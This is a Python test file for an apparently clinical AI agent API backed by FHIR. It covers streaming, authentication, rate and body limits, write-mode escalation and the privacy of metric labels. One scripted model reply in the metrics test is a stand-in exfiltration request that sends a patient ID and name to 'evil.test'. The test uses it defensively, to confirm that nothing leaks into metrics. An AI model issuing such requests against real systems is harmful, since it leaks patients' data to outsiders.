"""The agent API driven through its ASGI app with injected model and FHIR transports."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from prometheus_client.parser import text_string_to_metric_families

from sara.agent import fakes, sse
from sara.agent.api.app import create_app
from sara.agent.api.auth import key_id
from sara.agent.api.limits import BodyLimit
from sara.agent.audit import MemoryAuditSink
from sara.agent.errors import ConfigError
from sara.agent.events import STATUSES
from sara.agent.metrics import AUTH_FAILURES, WRITE_OUTCOMES
from sara.agent.settings import AgentSettings
from sara.agent.urlguard import DEFAULT_READ_TYPES, DEFAULT_WRITE_TYPES, REASONS

KEY = "test-key-1"
AUTH = {"Authorization": f"Bearer {KEY}"}
MRN = "S6315806"
TASK = {"instruction": f"How many magnesium results does {MRN} have?", "context": "now"}


def settings(**kw: Any) -> AgentSettings:
    base: dict[str, Any] = {
        "fhir_url": "http://fhir.test/fhir/",
        "model_url": "http://model.test/v1",
        "model": "fake-model",
        "api_keys": KEY,
        "model_max_retries": 0,
    }
    return AgentSettings(**{**base, **kw})


def make_app(
    model: Any = None, fhir: Any = None, audit: MemoryAuditSink | None = None, **kw: Any
) -> FastAPI:
    return create_app(
        settings(**kw),
        model_transport=httpx.MockTransport(model or fakes.model_handler()),
        fhir_transport=httpx.MockTransport(fhir or fakes.fhir_handler()),
        audit=audit if audit is not None else MemoryAuditSink(),
    )


@contextlib.asynccontextmanager
async def client(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    """An ASGI client with the app's lifespan running (the run store is opened there)."""
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url="http://agent.test"
        ) as c,
    ):
        yield c


async def test_sse_stream_end_to_end_and_replay() -> None:
    audit = MemoryAuditSink()
    async with client(make_app(audit=audit)) as c:
        r = await c.post("/v1/tasks", json=TASK, headers={**AUTH, "Accept": "text/event-stream"})
        assert r.status_code == 200
        assert r.headers["content-type"].startswith("text/event-stream")
        frames = list(sse.decode(r.text))
        kinds = [k for k, _ in frames]
        assert kinds == [
            "round_started",
            "model_output",
            "fhir_request",
            "fhir_response",
            "round_started",
            "model_output",
            "finished",
        ]
        result = frames[-1][1]["result"]
        assert result["status"] == "completed" and result["result"] == "[3]"
        summary = frames[3][1]
        assert summary == {
            "type": "fhir_response",
            "round": 1,
            "method": "GET",
            "resource_type": "Observation",
            "status": 200,
            "outcome": "ok",
            "entry_count": 3,
            "size": summary["size"],
            "truncated": False,
            "elapsed_ms": summary["elapsed_ms"],
            "summary": {
                "resource_type": "Bundle",
                "count": 3,
                "total": 3,
                "types": ["Observation"],
            },
        }
        request = frames[2][1]
        assert request["url"] == f"Observation?patient={MRN}&code=MG&_format=json"
        assert request["payload"] is None and request["sent"] is True
        task_id = r.headers["x-task-id"]
        assert result["task_id"] == task_id
        got = await c.get(f"/v1/tasks/{task_id}", headers=AUTH)
        view = got.json()
        assert got.status_code == 200 and view["status"] == "finished"
        assert view["outcome"] == "completed" and view["answer"] == "[3]"
        assert view["result"]["history"] == result["history"]
        assert view["patient"] == MRN and view["principal"] == key_id(KEY)
        replay = await c.get(f"/v1/tasks/{task_id}/events", headers=AUTH)
        assert list(sse.decode(replay.text)) == frames
        assert (await c.get("/v1/tasks/nope", headers=AUTH)).status_code == 404
    assert audit.records[0].caller == key_id(KEY)
    assert KEY not in audit.records[0].to_json()


async def test_json_response() -> None:
    async with client(make_app()) as c:
        r = await c.post("/v1/tasks", json=TASK, headers=AUTH)
        body = r.json()
        assert r.status_code == 200 and body["status"] == "completed"
        assert [m["role"] for m in body["history"]] == ["user", "agent", "user", "agent"]
        assert body["usage"] == {"prompt_tokens": 200, "completion_tokens": 20}
        bad = await c.post("/v1/tasks", json={"instruction": ""}, headers=AUTH)
        assert bad.status_code == 422
        # a lone surrogate: FastAPI's own 422 could not encode its echo of the input (500)
        raw = b'{"instruction": "x\\ud800"}'
        headers = {**AUTH, "Content-Type": "application/json"}
        bad = await c.post("/v1/tasks", content=raw, headers=headers)
        assert bad.status_code == 422 and bad.json()["detail"][0]["loc"] == ["body", "instruction"]


async def test_auth(tmp_path: Path) -> None:
    keyfile = tmp_path / "keys"
    keyfile.write_text("# mounted secret\nfile-key\n\n  # indented comment\n")
    async with client(make_app(api_keys_file=keyfile)) as c:
        assert (await c.post("/v1/tasks", json=TASK)).status_code == 401
        for comment in ("# indented comment", "#", "# mounted secret"):  # never keys
            r = await c.post("/v1/tasks", json=TASK, headers={"Authorization": f"Bearer {comment}"})
            assert r.status_code == 401
        r = await c.post("/v1/tasks", json=TASK, headers={"Authorization": "Bearer wrong"})
        assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
        assert (
            await c.post("/v1/tasks", json=TASK, headers={"Authorization": KEY})
        ).status_code == 401
        ok = await c.post("/v1/tasks", json=TASK, headers={"Authorization": "Bearer file-key"})
        assert ok.status_code == 200
        assert (await c.post("/v1/tasks", json=TASK, headers=AUTH)).status_code == 200
        # a plain key holds every role, "read" included: it sees the other key's task
        other = await c.get(f"/v1/tasks/{ok.headers['x-task-id']}", headers=AUTH)
        assert other.status_code == 200
        assert (await c.get("/healthz")).json() == {"status": "ok"}
        assert (await c.get("/docs")).status_code == 200
        assert (await c.get("/openapi.json")).json()["paths"]["/v1/tasks"]


async def test_no_keys_needs_explicit_no_auth() -> None:
    with pytest.raises(ConfigError):
        make_app(api_keys="")
    app = make_app(api_keys="", no_auth=True)
    async with client(app) as c:
        assert (await c.post("/v1/tasks", json=TASK)).status_code == 200
        ready = (await c.get("/readyz")).json()
        assert ready["auth"] == "disabled" and "authentication is disabled" in ready["warnings"][0]


async def test_body_limit() -> None:
    async with client(make_app(max_body_bytes=2000)) as c:
        big = {"instruction": "x" * 5000}
        assert (await c.post("/v1/tasks", json=big, headers=AUTH)).status_code == 413

        async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: counted while reading
            yield b'{"instruction": "'
            for _ in range(10):
                yield b"y" * 500
            yield b'"}'

        r = await c.post(
            "/v1/tasks", content=chunks(), headers={**AUTH, "Content-Type": "application/json"}
        )
        assert r.status_code == 413


async def test_a_trickled_body_times_out() -> None:
    app = make_app()
    limited = BodyLimit(app, 1 << 20, app.state.service.metrics, timeout=0.3)

    async def trickle() -> AsyncIterator[bytes]:
        yield b'{"instruction": "'
        while True:  # never the end: the connection was held open for good
            await asyncio.sleep(0.02)
            yield b"y"

    transport = httpx.ASGITransport(app=limited)
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(transport=transport, base_url="http://agent.test") as c,
    ):
        headers = {**AUTH, "Content-Type": "application/json"}
        r = await asyncio.wait_for(c.post("/v1/tasks", content=trickle(), headers=headers), 5)
        assert r.status_code == 408
        assert (await c.post("/v1/tasks", json=TASK, headers=AUTH)).status_code == 200


async def test_saturation_answers_429_with_retry_after() -> None:
    gate = asyncio.Event()
    entered = asyncio.Semaphore(0)

    async def slow_model(request: httpx.Request) -> httpx.Response:
        entered.release()
        await gate.wait()
        return httpx.Response(200, json=fakes.completion("FINISH([1])"))

    app = make_app(model=slow_model, max_concurrent_tasks=2)
    async with client(app) as c:
        running = [
            asyncio.create_task(c.post("/v1/tasks", json=TASK, headers=AUTH)) for _ in range(2)
        ]
        for _ in range(2):
            await asyncio.wait_for(entered.acquire(), 5)
        r = await c.post("/v1/tasks", json=TASK, headers=AUTH)
        assert r.status_code == 429 and r.headers["retry-after"] == "1"
        gate.set()
        assert [t.status_code for t in await asyncio.gather(*running)] == [200, 200]
        assert (await c.post("/v1/tasks", json=TASK, headers=AUTH)).status_code == 200
        text = (await c.get("/metrics")).text
        assert 'sara_api_rejected_total{reason="saturated"} 1.0' in text


async def test_options_cannot_escalate_writes() -> None:
    async with client(make_app(write_mode="dry-run")) as c:
        r = await c.post(
            "/v1/tasks", json={**TASK, "options": {"write_mode": "execute"}}, headers=AUTH
        )
        assert r.status_code == 403
        r = await c.post("/v1/tasks", json={**TASK, "options": {"max_rounds": 1}}, headers=AUTH)
        assert r.json()["status"] == "task limit reached" and r.json()["rounds"] == 1
        r = await c.post("/v1/tasks", json={**TASK, "options": {"max_rounds": 60}}, headers=AUTH)
        assert r.status_code == 422


async def test_readiness() -> None:
    async with client(make_app()) as c:
        r = await c.get("/readyz")
        assert r.status_code == 200 and r.json()["ready"] and r.json()["auth"] == "enabled"

    def fhir_down(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("refused")

    async with client(make_app(fhir=fhir_down)) as c:
        r = await c.get("/readyz")
        assert r.status_code == 503 and r.json() == {
            "ready": False,
            "model": True,
            "fhir": False,
            "audit": True,
            "auth": "enabled",
            "warnings": [],
        }


async def test_metrics_labels_are_a_closed_set() -> None:
    """Run tasks full of ids, URLs and free text; no exported label value may carry them."""
    replies = iter([])

    def model(request: httpx.Request) -> httpx.Response:
        messages = json.loads(request.content)["messages"]
        if len(messages) > 1:
            return httpx.Response(200, json=fakes.completion(next(replies, "FINISH([1])")))
        return httpx.Response(
            200, json=fakes.completion(f"GET http://fhir.test/fhir/Observation?patient={MRN}")
        )

    app = make_app(model=model, write_mode="execute")
    async with client(app) as c:
        obs = {"resourceType": "Observation", "subject": {"reference": f"Patient/{MRN}"}}
        scripts = [
            [f"GET http://evil.test/{MRN}?name=Peter", "FINISH([1])"],
            [f"GET http://fhir.test/fhir/Binary?patient={MRN}&date=2023-11-13", "FINISH([1])"],
            [
                f"POST http://fhir.test/fhir/Observation\n{json.dumps(obs)}",
                "FINISH([1])",
            ],
            ["free text answer", "x"],
        ]
        for s in scripts:
            replies = iter(s)
            await c.post(
                "/v1/tasks",
                json={"instruction": f"Peter Stafford {MRN} born 1932-12-29"},
                headers=AUTH,
            )
        await c.post("/v1/tasks", json=TASK)  # unauthorized
        text = (await c.get("/metrics")).text
    allowed = (
        {"GET", "POST", "other", "none", "2xx", "3xx", "4xx", "5xx", "fake-model", "Bundle"}
        | {s.replace(" ", "_") for s in STATUSES}
        | set(DEFAULT_READ_TYPES)
        | set(DEFAULT_WRITE_TYPES)
        | set(REASONS)
        | {"ok", "invalid", "error", "context_limit", "unauthorized", "saturated", "body_too_large"}
        | {"cancelled"}
        | set(WRITE_OUTCOMES)
        | set(AUTH_FAILURES)
    )
    seen = set()
    for family in text_string_to_metric_families(text):
        assert family.name.startswith("sara_")
        for sample in family.samples:
            for name, value in sample.labels.items():
                if name == "le":
                    continue
                seen.add(value)
                assert value in allowed, (sample.name, name, value)
    assert MRN not in text and "Peter" not in text and "http" not in text.replace("# HELP", "")
    assert {"Observation", "host", "resource_type", "completed", "agent_invalid_action"} <= seen
    assert "written" in seen  # the POST, sent: sara_fhir_writes_total{outcome="written"}
    for name in (
        "sara_fhir_requests_total",
        "sara_fhir_request_duration_seconds_bucket",
        "sara_model_rounds_total",
        "sara_model_round_duration_seconds_bucket",
        "sara_model_prompt_tokens_total",
        "sara_model_completion_tokens_total",
        "sara_tasks_total",
        "sara_task_rounds_bucket",
        "sara_tasks_in_flight",
        "sara_sse_streams_open",
        "sara_fhir_blocked_total",
        "sara_api_rejected_total",
    ):
        assert name in text, name


async def test_a_client_that_stops_reading_loses_its_stream_and_frees_the_slot(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The client sends its request, takes the response head, then never reads again: the
    # server's send waits for a socket that never drains. Past the stream's limit the response
    # is abandoned and the stream gauge drops; the task itself runs in the background and its
    # concurrency slot is released when it ends.
    from sara.agent.api import routes

    monkeypatch.setattr(routes, "STREAM_MARGIN_SECONDS", 0.0)
    app = make_app(task_timeout_seconds=0.2, fhir_timeout_seconds=0.1, max_concurrent_tasks=1)
    service = app.state.service
    body = json.dumps(TASK).encode()
    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/v1/tasks",
        "raw_path": b"/v1/tasks",
        "query_string": b"",
        "root_path": "",
        "headers": [
            (b"host", b"agent.test"),
            (b"authorization", AUTH["Authorization"].encode()),
            (b"accept", b"text/event-stream"),
            (b"content-type", b"application/json"),
            (b"content-length", str(len(body)).encode()),
        ],
        "client": ("127.0.0.1", 5000),
        "server": ("127.0.0.1", 8000),
    }
    requested = False
    sent: list[dict[str, Any]] = []
    never = asyncio.Event()

    async def receive() -> dict[str, Any]:
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": body, "more_body": False}
        await never.wait()  # connected, silent
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)
        if message["type"] == "http.response.body":
            await never.wait()  # the socket never drains

    async with app.router.lifespan_context(app):
        await asyncio.wait_for(app(scope, receive, send), timeout=10)
        assert sent[0]["type"] == "http.response.start" and sent[0]["status"] == 200
        task_id = dict(sent[0]["headers"])[b"x-task-id"].decode()
        for _ in range(200):  # the stream's end cancels the task; its segment then ends
            if service.gate.active == 0:
                break
            await asyncio.sleep(0.01)
        assert service.gate.active == 0  # the slot is free again
        # the task ran in the background, independent of the stalled socket, and ended
        assert (await service.runner.store.get(task_id)).status == "finished"
    text = service.metrics.exposition().decode()
    families = {f.name: f for f in text_string_to_metric_families(text)}
    assert [s.value for s in families["sara_sse_streams_open"].samples] == [0.0]
